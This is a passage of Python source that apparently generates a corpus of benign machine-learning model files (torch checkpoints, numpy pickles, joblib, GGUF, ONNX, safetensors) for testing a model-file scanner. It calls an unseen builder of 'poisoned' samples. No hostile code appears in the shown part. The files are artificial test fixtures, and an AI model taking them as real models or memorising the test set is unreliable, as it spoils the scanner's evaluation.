        "a SavedModel of ordinary operations",
    )
    add(
        "tensorflow/model.tflite",
        tflite_bytes([]),
        "tflite",
        "a TFLite model without custom operators",
    )
    _benign_onnx(add)
    add(
        "gguf/handmade.gguf",
        gguf_bytes(
            {
                "general.architecture": "llama",
                "general.name": "tiny",
                "tokenizer.chat_template": LLAMA3_TEMPLATE,
            }
        ),
        "gguf",
        "GGUF with a Llama 3 chat template",
    )


def _benign_onnx(add: Callable[[str, bytes, str, str], None]) -> None:
    try:
        import numpy as np
        from onnx import TensorProto, helper, numpy_helper
    except ImportError:
        return
    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])
    weight = numpy_helper.from_array(np.ones((4, 4), dtype=np.float32), "W")
    nodes = [helper.make_node("MatMul", ["X", "W"], ["H"]), helper.make_node("Relu", ["H"], ["Y"])]
    model = helper.make_model(
        helper.make_graph(nodes, "g", [x], [y], [weight]), producer_name="onnx"
    )
    add("onnx/mlp.onnx", model.SerializeToString(), "onnx", "an ONNX MatMul + Relu graph")


def _try_gguf(out: Path, add: Callable[[str, bytes, str, str], None]) -> None:
    try:
        import gguf
        import numpy as np
    except ImportError:
        return
    path = out / "gguf" / "writer.gguf"
    path.parent.mkdir(parents=True, exist_ok=True)
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name("tiny")
    writer.add_context_length(128)
    writer.add_chat_template(LLAMA3_TEMPLATE)
    writer.add_token_list([f"t{i}" for i in range(64)])
    writer.add_tensor("token_embd.weight", np.zeros((8, 4), dtype=np.float32))
    writer.add_tensor("output.weight", np.zeros(64, dtype=np.float16))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    add("gguf/writer.gguf", path.read_bytes(), "gguf-writer", "GGUF written by the gguf package")


def _numel(shape: tuple[int, ...]) -> int:
    n = 1
    for d in shape:
        n *= d
    return n


def _try_torch(out: Path, add: Callable[[str, bytes, str, str], None]) -> bool:
    try:
        import torch
    except ImportError:
        return False
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.LayerNorm(8))
    optim = torch.optim.AdamW(model.parameters())
    model(torch.zeros(2, 4)).sum().backward()
    optim.step()

    def saved(obj: Any, **kw: Any) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        return buf.getvalue()

    add("torch/state_dict.pt", saved(model.state_dict()), "torch-zip", "torch.save of a state_dict")
    add(
        "torch/optimizer.pt",
        saved(optim.state_dict()),
        "torch-optimizer",
        "torch.save of AdamW state",
    )
    add(
        "torch/checkpoint.bin",
        saved(
            {
                "model": model.state_dict(),
                "optimizer": optim.state_dict(),
                "epoch": 3,
                "args": argparse.Namespace(lr=0.1),
            }
        ),
        "torch-checkpoint",
        "training checkpoint with argparse.Namespace",
    )
    add(
        "torch/legacy.pt",
        saved(model.state_dict(), _use_new_zipfile_serialization=False),
        "torch-legacy",
        "legacy (non-zip) torch.save",
    )
    add(
        "torch/dtypes.pt",
        saved(
            {
                "bf16": torch.zeros(2, dtype=torch.bfloat16),
                "i8": torch.zeros(2, dtype=torch.int8),
                "b": torch.zeros(2, dtype=torch.bool),
                "c": torch.zeros(2, dtype=torch.complex64),
                "param": torch.nn.Parameter(torch.zeros(2)),
                "sparse": torch.zeros(2, 2).to_sparse(),
            }
        ),
        "torch-dtypes",
        "tensors of many dtypes, a parameter and a sparse tensor",
    )
    add("torch/model.pt", saved(model), "torch-module", "torch.save of a whole nn.Sequential")
    add(
        "torch/legacy_model.pt",
        saved(model, _use_new_zipfile_serialization=False),
        "torch-legacy-module",
        "legacy torch.save of a whole nn.Sequential",
    )
    encoder = torch.nn.TransformerEncoder(
        torch.nn.TransformerEncoderLayer(d_model=8, nhead=2, dim_feedforward=16),
        num_layers=1,
        enable_nested_tensor=False,
    )
    add(
        "torch/transformer.pt",
        saved(encoder),
        "torch-module-transformer",
        "torch.save of a whole TransformerEncoder (F.relu as its activation)",
    )
    return True


def _try_numpy(out: Path, add: Callable[[str, bytes, str, str], None]) -> None:
    try:
        import numpy as np
    except ImportError:
        return
    rng = np.random.default_rng(0)
    arr = rng.standard_normal((16, 8)).astype(np.float32)
    buf = io.BytesIO()
    np.save(buf, arr)
    add("numpy/weights.npy", buf.getvalue(), "numpy-npy", "float32 .npy")
    for compressed in (False, True):
        buf = io.BytesIO()
        (np.savez_compressed if compressed else np.savez)(
            buf, w=arr, b=np.arange(8), s=np.array(["x", "yz"])
        )
        add(
            f"numpy/arrays{'_compressed' if compressed else ''}.npz",
            buf.getvalue(),
            "numpy-npz",
            "numeric .npz" + (" (deflated)" if compressed else ""),
        )
    for proto in (2, 4, 5):
        add(
            f"numpy/pickled_p{proto}.pkl",
            _dumps(
                {
                    "w": arr,
                    "scalar": np.float64(1.5),
                    "i": np.int64(3),
                    "rng": rng,
                    "structured": np.zeros(2, dtype=[("a", "<f4"), ("b", "<i8")]),
                },
                proto,
            ),
            "numpy-pickle",
            f"numpy arrays, scalars and a Generator pickled with protocol {proto}",
        )


def _try_joblib(out: Path, add: Callable[[str, bytes, str, str], None]) -> None:
    try:
        import joblib
        import numpy as np
    except ImportError:
        return
    data = {
        "coef": np.arange(12.0).reshape(3, 4),
        "intercept": np.zeros(3),
        "classes": np.array([0, 1, 2]),
        "names": ["a", "b"],
        "meta": {"version": 1},
    }
    for compress in (0, 3, ("lz4", 3), ("xz", 3)):
        buf = io.BytesIO()
        try:
            joblib.dump(data, buf, compress=compress)
        except ValueError:
            continue  # compressor not installed
        label = compress if isinstance(compress, int) else compress[0]
        add(
            f"joblib/model_{label}.joblib",
            buf.getvalue(),
            "joblib",
            f"joblib dump, compress={compress!r}",
        )


def _try_safetensors(out: Path, add: Callable[[str, bytes, str, str], None]) -> None:
    try:
        import numpy as np
        from safetensors.numpy import save
    except ImportError:
        return
    add(
        "model.safetensors",
        save({"w": np.zeros((4, 4), dtype=np.float32)}),
        "safetensors",
        "safetensors",
    )


def build_zoo(root: Path) -> tuple[list[Sample], list[Sample], Path]:
    """The demo layout: ``root/clean``, ``root/poisoned``; markers go to ``root/markers``."""
    markers = root / "markers"
    markers.mkdir(parents=True, exist_ok=True)
    benign = build_benign(root / "clean")
    malicious = build_malicious(root / "poisoned", markers)
    return benign, malicious, markers
